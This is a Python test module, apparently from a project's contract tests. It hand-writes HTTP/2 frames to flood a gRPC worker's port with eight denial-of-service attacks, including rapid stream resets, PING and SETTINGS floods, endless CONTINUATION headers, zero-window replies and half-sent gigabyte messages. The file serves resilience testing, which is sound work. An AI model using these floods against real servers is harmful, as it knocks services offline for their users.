"""Attacks on a worker's port: `python -m tests.contract.grpc_attacker NAME ADDRESS` goes on until it is killed.

Prints how many bytes the worker took, from time to time. Speaks HTTP/2 by hand, for no library would do this.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing, suppress

import torch

from tests.contract.harness import MODEL_NAME
from tests.credentials import CREDENTIALS
from workers import wire
from workers.transport.base import Tag
from workers.transport.grpc.handshake import EXCHANGE_METHOD, Hello

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4  # a setting
_BYTES_PER_S = 4 << 20  # twice what stopped the answers of a worker that spoke HTTP/2 by itself


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(content) << 8 | kind, flags, stream) + content


def headers(method: str, metadata: tuple[tuple[str, str], ...] = ()) -> bytes:
    """A header block of literals: HPACK without its tables."""
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"), ("te", "trailers")]
    pairs += [("content-type", "application/grpc"), *metadata]
    return b"".join(b"\0" + b"".join(bytes((len(text),)) + text.encode() for text in pair) for pair in pairs)


MEMBER = headers(EXCHANGE_METHOD, CREDENTIALS.metadata + Hello("a", "router-1", MODEL_NAME).metadata)


def connect(address: str) -> socket.socket:
    """A connection that has begun to speak HTTP/2."""
    host, port = address.rsplit(":", 1)
    connected = socket.create_connection((host, int(port)), timeout=5)
    connected.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connected


def pings() -> Iterator[bytes]:
    """17 bytes each; as many as the worker takes."""
    while True:
        yield frame(PING, 0, 0, b"attacker") * 1000


def resets() -> Iterator[bytes]:
    """Calls that are taken back as soon as they are made: 1,000 in 38 KB, without a token."""
    block, stream = headers(EXCHANGE_METHOD), 1
    while True:
        burst = b""
        for _ in range(1000):
            burst += frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, bytes((0, 0, 0, 8)))
            stream += 2
        yield burst


def member_resets() -> Iterator[bytes]:
    """The same with the cluster's token."""
    stream = 1
    while True:
        burst = b""
        for _ in range(1000):
            burst += frame(HEADERS, END_HEADERS, stream, MEMBER) + frame(RESET, 0, stream, bytes((0, 0, 0, 8)))
            stream += 2
        yield burst


def settings() -> Iterator[bytes]:
    """Each has to be acknowledged."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535)) * 1000


def continuations() -> Iterator[bytes]:
    """A header block that never ends."""
    yield frame(HEADERS, 0, 1, headers(EXCHANGE_METHOD))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\1x\1y" * 2000) * 10


def empty_data() -> Iterator[bytes]:
    """Frames without content in a member's stream."""
    yield frame(HEADERS, END_HEADERS, 1, MEMBER)
    while True:
        yield frame(DATA, 0, 1) * 1000


def unread_replies() -> Iterator[bytes]:
    """A member that asks for 40 MB of rows again and again, and has no room for any: its window is 0."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
    yield frame(HEADERS, END_HEADERS, 1, MEMBER)
    pairs_P = torch.arange(8000, dtype=torch.int32)
    asked = wire.request_frames(Tag(2, 1, 1, 0, 0, 0), torch.ones(8000, 32), pairs_P, torch.zeros_like(pairs_P))
    content = b"".join(struct.pack(">BI", 0, sum(map(len, parts))) + b"".join(parts) for parts in asked)
    while True:
        for at in range(0, len(content), 1 << 14):
            yield frame(DATA, 0, 1, content[at : at + (1 << 14)])


def half_messages() -> Iterator[bytes]:
    """Streams of a member that announce a gigabyte and send a megabyte of it."""
    head, _ = wire.request_head(Tag(2, 1, 1, 0, 0, 0), torch.empty(8_000_000, 32), 1)
    first = head + bytes(wire.FRAME_BYTES - len(head))
    stream = 1
    while True:
        yield frame(HEADERS, END_HEADERS, stream, MEMBER)
        content = struct.pack(">BI", 0, len(first)) + first
        for at in range(0, len(content), 1 << 14):
            yield frame(DATA, 0, stream, content[at : at + (1 << 14)])
        stream += 2


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (pings, resets, member_resets, settings, continuations, empty_data, unread_replies, half_messages)
}


def main(name: str, address: str) -> None:
    sent, began = 0, time.monotonic()
    while True:
        with suppress(OSError), closing(connect(address)) as connection:
            for content in ATTACKS[name]():
                connection.sendall(content)
                sent += len(content)
                print(sent, flush=True)
                time.sleep(max(0.0, began + sent / _BYTES_PER_S - time.monotonic()))
        time.sleep(0.001)


if __name__ == "__main__":
    main(*sys.argv[1:])
